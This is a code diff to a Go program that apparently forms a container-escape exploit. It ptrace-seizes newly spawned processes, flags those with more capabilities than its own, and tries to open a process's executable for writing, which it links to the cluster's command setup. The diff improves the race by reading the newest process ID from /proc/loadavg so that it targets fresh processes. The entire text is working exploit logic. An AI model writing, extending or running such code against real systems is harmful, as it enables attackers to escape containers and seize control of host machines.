@@ -3,6 +3,7 @@ package main
 import (
 	"errors"
 	"fmt"
+	"io"
 	"os"
 	"os/signal"
 	"runtime"
@@ -14,7 +15,7 @@ import (
 const (
 	ptraceSeize     = 0x4206
 	ptraceInterrupt = 0x4207
-	ahead           = 8 // process ids that are tried at a time
+	ahead           = 8 // process ids that are tried around the newest
 )
 
 // catch attaches to each new process until it is signalled to end, and prints those that had more capabilities than itself.
@@ -27,6 +28,11 @@ func catch() error {
 		return err
 	}
 	fmt.Println("ready")
+	load, err := os.Open("/proc/loadavg")
+	if err != nil {
+		return err
+	}
+	defer load.Close()
 	caught, low := 0, os.Getpid()+1
 	for {
 		select {
@@ -35,7 +41,13 @@ func catch() error {
 			return nil
 		default:
 		}
-		for pid := low; pid < low+ahead; pid++ {
+		last, err := newest(load)
+		if err != nil {
+			return err
+		}
+		// Processes that ended uncaught must not keep later ones out of reach.
+		low = max(low, last-ahead)
+		for pid := low; pid < last+ahead; pid++ {
 			overwrite(pid)
 			switch err := ptrace(ptraceSeize, pid); {
 			case err == nil:
@@ -49,6 +61,20 @@ func catch() error {
 			}
 		}
 	}
+}
+
+// newest returns the last process id that the kernel gave away in this process namespace: the last field of /proc/loadavg.
+func newest(load *os.File) (pid int, err error) {
+	text := make([]byte, 64)
+	n, err := load.ReadAt(text, 0)
+	if err != nil && !errors.Is(err, io.EOF) {
+		return 0, err
+	}
+	fields := strings.Fields(string(text[:n]))
+	if len(fields) == 0 {
+		return 0, errors.New("/proc/loadavg is empty")
+	}
+	return strconv.Atoi(fields[len(fields)-1])
 }
 
 // overwrite tries to open the program of a process for writing. The one that sets up commands belongs to the cluster.
